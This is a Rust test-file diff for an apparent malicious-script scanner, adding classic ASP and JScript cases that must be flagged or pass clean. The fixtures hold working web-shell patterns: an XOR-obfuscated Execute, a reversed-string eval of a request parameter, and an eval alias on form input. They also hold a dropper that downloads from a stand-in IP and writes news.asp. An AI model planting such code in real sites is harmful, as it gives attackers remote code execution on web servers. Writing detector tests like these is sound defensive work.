@@ -227,3 +227,31 @@ fn short_encoded_literal_holding_a_one_line_shell_is_decoded() {
     let src = b"<?php $px = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk'; echo base64_decode($px);";
     assert_clean(&scan(src, Lang::Php));
 }
+
+#[test]
+fn asp_execute_of_an_in_file_decoder() {
+    let src = b"<%\nFunction dc(ByVal s, ByVal k)\n  For i = 1 To Len(s) Step 2\n    dc = dc & Chr(CLng(\"&H\" & Mid(s, i, 2)) Xor k)\n  Next\nEnd Function\nExecute dc(\"6877656D2B73697278\", \"13\")\n%>";
+    assert_detected(&scan(src, Lang::Asp), "deobf.eval-dynamic");
+    let src = b"<%execute(strreverse(\")\"\"q\"\"(tseuqer lave\"))%>";
+    assert_detected(&scan(src, Lang::Asp), "flow.code");
+}
+
+#[test]
+fn asp_execute_of_a_fixed_include_stays_clean() {
+    let src = b"<%\nFunction header()\n  header = \"Response.Write 1\"\nEnd Function\nDim t : t = Request.QueryString(\"t\")\nResponse.Write Server.HTMLEncode(t)\n%>";
+    assert_clean(&scan(src, Lang::Asp));
+}
+
+#[test]
+fn jscript_eval_alias_with_request_input() {
+    let src = b"<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT>var p = Request.Form('z'); var t = {'E': eval}; t.E(p + '');</SCRIPT>";
+    assert_detected(&scan(src, Lang::Asp), "deobf.eval-alias");
+}
+
+#[test]
+fn asp_stream_saved_as_a_script_is_a_dropper() {
+    let src = b"<%\nSet x = Server.CreateObject(\"Microsoft.XMLHTTP\")\nx.Open \"GET\", \"http://198.51.100.9/s.txt\", False\nx.Send()\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1 : st.Open : st.Write x.responseBody\nst.SaveToFile Server.MapPath(\"news.asp\"), 2\n%>";
+    assert_detected(&scan(src, Lang::Asp), "flow.dropper");
+    let src = b"<%\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Open : st.WriteText \"report\"\nst.SaveToFile Server.MapPath(\"report.csv\"), 2\n%>";
+    assert_clean(&scan(src, Lang::Asp));
+}
